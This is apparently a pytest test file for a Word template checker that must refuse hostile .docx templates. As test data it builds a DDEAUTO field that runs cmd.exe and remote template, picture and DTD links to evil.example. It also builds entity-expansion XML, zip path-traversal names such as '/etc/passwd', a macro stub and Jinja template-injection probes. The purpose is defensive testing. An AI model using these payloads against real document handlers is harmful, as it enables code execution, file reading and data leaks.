"""Threat T10: hostile templates are refused with a clear finding, and nothing in them is run."""

import io
import struct
import tracemalloc
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from hashlib import sha256

import pytest

from documents.findings import SENTENCES, sentence
from documents.letter import Letter, compile_letter
from documents.template_check import check_template
from models import errors
from tests.documents.word import DOCUMENT, EVERY_FIELD, Visit, changed, packed, parts_of, template

GOOD = template(*EVERY_FIELD)
TYPES = "[Content_Types].xml"
RELATIONS = "word/_rels/document.xml.rels"
SETTINGS = "word/settings.xml"
MEGABYTE = 1024 * 1024
_RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_MAIN_TYPE = "wordprocessingml.document.main+xml"


def with_part(name: str, content: bytes) -> bytes:
    return packed({**parts_of(GOOD), name: content})


def without_part(name: str) -> bytes:
    return packed({key: content for key, content in parts_of(GOOD).items() if key != name})


def with_relation(kind: str, target: str, mode: str = "External") -> bytes:
    entry = (
        f'<Relationship Id="x1" Type="{_RELATION}/{kind}" Target="{target}" TargetMode="{mode}"/>'
    )
    return changed(GOOD, RELATIONS, "</Relationships>", f"{entry}</Relationships>")


def with_body(xml: str) -> bytes:
    return changed(GOOD, DOCUMENT, "<w:sectPr", f"{xml}<w:sectPr")


def with_field(instruction: str) -> bytes:
    half = len(instruction) // 2
    words = "".join(
        f'<w:r><w:instrText xml:space="preserve">{part}</w:instrText></w:r>'
        for part in (instruction[:half], instruction[half:])
    )
    return with_body(
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        f'{words}<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>x</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


def with_definition(definition: str) -> bytes:
    parts = parts_of(GOOD)
    content = parts[DOCUMENT]
    at = content.index(b"<w:document")
    return packed({**parts, DOCUMENT: content[:at] + definition.encode() + content[at:]})


def with_encoding(encoding: str) -> bytes:
    content = parts_of(GOOD)[DOCUMENT]
    body = content[content.index(b"<w:document") :].decode()
    text = f'<?xml version="1.0" encoding="{encoding}"?>{body}'
    return packed(
        {
            **parts_of(GOOD),
            DOCUMENT: text.encode("utf-16" if encoding == "utf-16" else "ascii", "replace"),
        }
    )


def with_line(line: str) -> bytes:
    return template(*EVERY_FIELD, line)


def with_entry(name: str, *, flags: int = 0, method: int = zipfile.ZIP_DEFLATED) -> bytes:
    """The package with an entry no Word would write."""
    file = io.BytesIO(GOOD)
    with zipfile.ZipFile(file, "a") as package:
        package.writestr("word/odd.bin", b"odd")
    data = file.getvalue()
    odd = name.encode().ljust(len(b"word/odd.bin"), b"x")
    data = data.replace(b"word/odd.bin", odd)
    if flags or method != zipfile.ZIP_DEFLATED:
        data = _with_facts(data, odd, flags, method)
    return data


def _with_facts(data: bytes, name: bytes, flags: int, method: int) -> bytes:
    changed_data = bytearray(data)
    for at, offset in ((data.index(name), 30 - 6), (data.rindex(name), 46 - 8)):
        struct.pack_into("<HH", changed_data, at - offset, flags, method)
    return bytes(changed_data)


def with_two_of_a_part() -> bytes:
    file = io.BytesIO(GOOD)
    with zipfile.ZipFile(file, "a") as package:
        package.writestr("word/DOCUMENT.xml", b"<other/>")
    return file.getvalue()


def claiming(size: int) -> bytes:
    """The package with a part that states another size than it has."""
    data = bytearray(with_part("word/odd.bin", zlib.compress(bytes(10_000))))
    at = data.rindex(b"word/odd.bin")
    struct.pack_into("<L", data, at - 46 + 24, size)
    return bytes(data)


def broken_in_the_middle() -> bytes:
    data = bytearray(GOOD)
    at = data.index(b"word/document.xml") + 200
    data[at : at + 40] = bytes(40)
    return bytes(data)


def many_tags() -> bytes:
    return template(*EVERY_FIELD, "{{ name }}" * 500)


def _with_another_prefix() -> bytes:
    parts = parts_of(GOOD)
    text = parts[DOCUMENT].decode().replace("<w:", "<x:").replace("</w:", "</x:")
    text = text.replace(" w:", " x:").replace("xmlns:w=", "xmlns:x=")
    return packed({**parts, DOCUMENT: text.encode()})


def _words(size: int) -> str:
    """Paragraphs of words that do not pack well."""
    words = (sha256(str(n).encode()).hexdigest() for n in range(size // 100))
    return "".join(f"<w:p><w:r><w:t>{word}</w:t></w:r></w:p>" for word in words)


@dataclass(frozen=True, slots=True)
class Case:
    name: str
    made: Callable[[], bytes]
    key: str


PACKAGES = (
    Case("not a zip", lambda: b"MZ\x90\x00 program", "not_word"),
    Case("an empty file", lambda: b"", "not_word"),
    Case(
        "an older format or a password",
        lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600),
        "protected",
    ),
    Case("a zip cut off", lambda: GOOD[: len(GOOD) // 2], "damaged"),
    Case("bytes overwritten", broken_in_the_middle, "damaged"),
    Case("a part of another size than it states", lambda: claiming(5), "damaged"),
    Case(
        "a part that unpacks to 30 MB",
        lambda: with_part("word/media/a.png", bytes(30 * MEGABYTE)),
        "too_large",
    ),
    Case(
        "a part that is packed 1000 to 1",
        lambda: with_part("word/media/a.png", bytes(5 * MEGABYTE)),
        "packed_too_tightly",
    ),
    Case("a document of 2 MB", lambda: with_body("<w:p/>" * 400_000), "packed_too_tightly"),
    Case("a document of 500 kB", lambda: with_body(_words(500_000)), "too_large"),
    Case(
        "a part of 1 MB",
        lambda: with_part("word/styles.xml", _words(1_100_000).encode()),
        "too_large",
    ),
    Case(
        "too many parts",
        lambda: packed({**parts_of(GOOD), **{f"p{n}.xml": b"<a/>" for n in range(500)}}),
        "too_many_parts",
    ),
    Case("a zip in the zip", lambda: with_part("word/media/image9.png", GOOD), "embedded"),
    Case("two parts of one name", with_two_of_a_part, "doubled_name"),
    Case("a name that leads out", lambda: with_entry("../../../etc"), "unsafe_name"),
    Case("a name from the root", lambda: with_entry("/etc/passwd"), "unsafe_name"),
    Case("a name of a drive", lambda: with_entry("C:autoexec"), "unsafe_name"),
    Case("a name with a backslash", lambda: with_entry("word\\..\\x"), "unsafe_name"),
    Case("a name with a line break", lambda: with_entry("word/o\nd.bin"), "unsafe_name"),
    Case("an encrypted part", lambda: with_entry("word/odd.bin", flags=1), "encrypted"),
    Case("a packing nobody reads", lambda: with_entry("word/odd.bin", method=99), "damaged"),
    Case("no document", lambda: without_part(DOCUMENT), "no_document"),
    Case("no content types", lambda: without_part(TYPES), "no_document"),
    Case(
        "no body",
        lambda: changed(
            changed(GOOD, DOCUMENT, "<w:body>", "<w:bdy>"), DOCUMENT, "</w:body>", "</w:bdy>"
        ),
        "no_document",
    ),
    Case("the main names under another prefix", _with_another_prefix, "no_document"),
    Case("XML that is not whole", lambda: changed(GOOD, DOCUMENT, "</w:body>", ""), "damaged"),
)

CONTENTS = (
    Case("a macro project", lambda: with_part("word/vbaProject.bin", b"Sub AutoOpen()"), "macro"),
    Case(
        "the type of a macro document",
        lambda: changed(GOOD, TYPES, _MAIN_TYPE, "ms-word.document.macroEnabled.main+xml"),
        "macro",
    ),
    Case(
        "the type of another document",
        lambda: changed(GOOD, TYPES, _MAIN_TYPE, "wordprocessingml.template.main+xml"),
        "no_document",
    ),
    Case("a macro relation", lambda: with_relation("vbaProject", "x.bin", "Internal"), "macro"),
    Case(
        "a template from the net",
        lambda: with_relation("attachedTemplate", "https://evil.example/x.dotm"),
        "external",
    ),
    Case(
        "a picture from the net",
        lambda: with_relation("image", "https://evil.example/x.png"),
        "external",
    ),
    Case(
        "a file on a share",
        lambda: with_relation("image", r"file:///\\server\share\x.png"),
        "external",
    ),
    Case(
        "an address that claims to be inside",
        lambda: with_relation("image", "http://evil.example/x.png", "Internal"),
        "external",
    ),
    Case(
        "an embedded program",
        lambda: with_relation("oleObject", "embeddings/oleObject1.bin", "Internal"),
        "embedded",
    ),
    Case("an embedded part", lambda: with_part("word/embeddings/sheet.bin", b"x"), "embedded"),
    Case(
        "another document drawn in",
        lambda: with_relation("aFChunk", "other.html", "Internal"),
        "embedded",
    ),
    Case(
        "an object in the text", lambda: with_body("<w:p><w:r><w:object/></w:r></w:p>"), "embedded"
    ),
    Case(
        "an attached template in the settings",
        lambda: changed(GOOD, SETTINGS, "</w:settings>", "<w:attachedTemplate/></w:settings>"),
        "external",
    ),
    Case(
        "a mail merge with a database",
        lambda: changed(GOOD, SETTINGS, "</w:settings>", "<w:mailMerge/></w:settings>"),
        "external",
    ),
    Case(
        "a drawing with an address",
        lambda: with_body(
            '<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml" href="http://evil.example"/></w:pict></w:r></w:p>'
        ),
        "external",
    ),
    Case(
        "a reference to nothing",
        lambda: with_body('<w:p><w:hyperlink r:id="rId99"/></w:p>'),
        "embedded",
    ),
    Case("a picture that is not there", lambda: _with_picture(None), "damaged"),
    Case("a picture that is a program", lambda: _with_picture(b"MZ program"), "picture"),
    Case(
        "tracked changes",
        lambda: with_body("<w:p><w:ins><w:r><w:t>x</w:t></w:r></w:ins></w:p>"),
        "tracked_changes",
    ),
    Case(
        "several sections",
        lambda: with_body("<w:p><w:pPr><w:sectPr/></w:pPr></w:p>"),
        "several_sections",
    ),
    Case(
        "a definition of entities",
        lambda: with_definition('<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]>'),
        "doctype",
    ),
    Case(
        "a definition from the net",
        lambda: with_definition('<!DOCTYPE x SYSTEM "http://evil.example/x.dtd">'),
        "doctype",
    ),
    Case("a definition hidden in UTF-7", lambda: with_encoding("utf-7"), "encoding"),
    Case("a definition hidden in UTF-16", lambda: with_encoding("utf-16"), "encoding"),
)

FIELDS = (
    Case(
        "DDE",
        lambda: with_field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"'),
        "word_field",
    ),
    Case(
        "a picture by a field",
        lambda: with_field('INCLUDEPICTURE "http://evil.example/x.png"'),
        "word_field",
    ),
    Case("a file by a field", lambda: with_field('INCLUDETEXT "C:\\\\secret.docx"'), "word_field"),
    Case("a link by a field", lambda: with_field('HYPERLINK "http://evil.example"'), "word_field"),
    Case(
        "a field in one element",
        lambda: with_body('<w:p><w:fldSimple w:instr="LINK Excel.Sheet.8"/></w:p>'),
        "word_field",
    ),
    Case("a field behind an innocent one", lambda: with_field("PAGE MACROBUTTON x"), "word_field"),
    Case(
        "an instruction in no field",
        lambda: with_body("<w:p><w:r><w:instrText>QUOTE x</w:instrText></w:r></w:p>"),
        "word_field",
    ),
    Case(
        "an end of no field",
        lambda: with_body(
            '<w:p><w:r><w:fldChar w:fldCharType="end"/><w:instrText>QUOTE x</w:instrText></w:r></w:p>'
        ),
        "word_field",
    ),
    Case("the class of a value", lambda: with_line("{{ name.__class__.__mro__ }}"), "not_allowed"),
    Case("one step to a class", lambda: with_line("{{ name.__class__ }}"), "unknown_field"),
    Case(
        "a filter that reaches attributes", lambda: with_line("{{ name|attr('x') }}"), "not_allowed"
    ),
    Case("a call", lambda: with_line("{{ name.upper() }}"), "not_allowed"),
    Case("a sum", lambda: with_line("{{ 7*7 }}"), "not_allowed"),
    Case("a file included", lambda: with_line("{% include '/etc/passwd' %}"), "not_allowed"),
    Case("a module imported", lambda: with_line("{% import x %}"), "not_allowed"),
    Case("a template extended", lambda: with_line("{% extends name %}"), "not_allowed"),
    Case("a macro defined", lambda: with_line("{% macro x %}{% endmacro %}"), "not_allowed"),
    Case("a variable set", lambda: with_line("{% set x %}{% endset %}"), "not_allowed"),
    Case(
        "a loop without end",
        lambda: with_line("{% for i in range(10**9) %}x{% endfor %}"),
        "not_allowed",
    ),
    Case(
        "a loop in a loop",
        lambda: with_line("{% for a in lines %}{% for b in lines %}x{% endfor %}{% endfor %}"),
        "not_allowed",
    ),
    Case("names of the engine's own", lambda: with_line("{{ self }}{{ loop }}"), "not_allowed"),
    Case("a slot of ours", lambda: with_line("{{ _section }}"), "unknown_field"),
    Case("another tag of Word's", lambda: with_line("{{r name }}"), "not_allowed"),
    Case("a very long tag", lambda: with_line("{{ " + "name " * 100 + "}}"), "not_allowed"),
    Case("too many fields", many_tags, "too_many_fields"),
    Case(
        "ifs in ifs",
        lambda: with_line("{% if name %}" * 40 + "x" + "{% endif %}" * 40),
        "not_allowed",
    ),
    Case(
        "braces that meet over paragraphs",
        lambda: template(*EVERY_FIELD, "{", "{ 7*7 }", "}"),
        "misplaced",
    ),
    Case(
        "a header pointed to in the text",
        lambda: changed(
            template(*EVERY_FIELD, header="x"),
            DOCUMENT,
            "<w:sectPr",
            '<w:p><w:r><w:headerReference r:id="rId9"/></w:r></w:p><w:sectPr',
        ),
        "embedded",
    ),
    Case("a field in a footnote", lambda: _with_notes("{{ name }}"), "misplaced"),
    Case("a tag opened outside the text", lambda: with_body("<w:p>{%</w:p>"), "not_read"),
    Case(
        "a header pointed to as a picture",
        lambda: with_body('<w:p><w:r><w:drawing r:id="rId1"/></w:r></w:p>'),
        "embedded",
    ),
    Case(
        "a section that is not the last thing",
        lambda: changed(
            changed(GOOD, DOCUMENT, "<w:sectPr", "<w:p><w:pPr><w:sectPr"),
            DOCUMENT,
            "</w:sectPr>",
            "</w:sectPr></w:pPr></w:p>",
        ),
        "several_sections",
    ),
    Case(
        "a field in a drawing",
        lambda: with_body(
            '<w:p><w:r><w:drawing><a:t xmlns:a="urn:a">{{ name }}</a:t></w:drawing></w:r></w:p>'
        ),
        "misplaced",
    ),
)


def _with_picture(content: bytes | None) -> bytes:
    data = with_relation("image", "media/x.png", "Internal")
    parts = parts_of(data) | ({} if content is None else {"word/media/x.png": content})
    picture = (
        '<a:blip xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" r:embed="x1"/>'
    )
    return changed(
        packed(parts),
        DOCUMENT,
        "<w:sectPr",
        f"<w:p><w:r><w:drawing>{picture}</w:drawing></w:r></w:p><w:sectPr",
    )


def _with_notes(text: str) -> bytes:
    data = with_relation("footnotes", "footnotes.xml", "Internal")
    notes = (
        '<w:footnotes xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
        f'<w:footnote w:id="1"><w:p><w:r><w:t>{text}</w:t></w:r></w:p></w:footnote></w:footnotes>'
    )
    return packed({**parts_of(data), "word/footnotes.xml": notes.encode()})


def test_a_footnote_of_the_office_s_own_passes() -> None:
    assert check_template(_with_notes("Socialtjänstlagen"), Visit) == ()


def test_the_template_the_hostile_ones_are_made_of_is_good() -> None:
    assert check_template(GOOD, Visit) == ()


@pytest.mark.parametrize("case", [*PACKAGES, *CONTENTS, *FIELDS], ids=lambda case: case.name)
def test_a_hostile_template_is_refused_with_a_sentence(case: Case) -> None:
    data = case.made()
    findings = check_template(data, Visit)
    assert case.key in [finding.key for finding in findings]
    assert all(sentence(finding, str).endswith((".", "”.")) for finding in findings)
    with pytest.raises(errors.BadTemplate) as refused:
        compile_letter(Letter("kallelse", Visit), data)
    assert case.key in [key for key, _ in refused.value.findings]


@pytest.mark.parametrize("case", PACKAGES, ids=lambda case: case.name)
def test_a_hostile_package_takes_little_memory(case: Case) -> None:
    data = case.made()
    tracemalloc.start()
    try:
        check_template(data, Visit)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert peak < 100 * MEGABYTE


def test_every_sentence_takes_its_word_and_its_line() -> None:
    assert all("{" not in text.format(word="x", line="y") for text in SENTENCES.values())
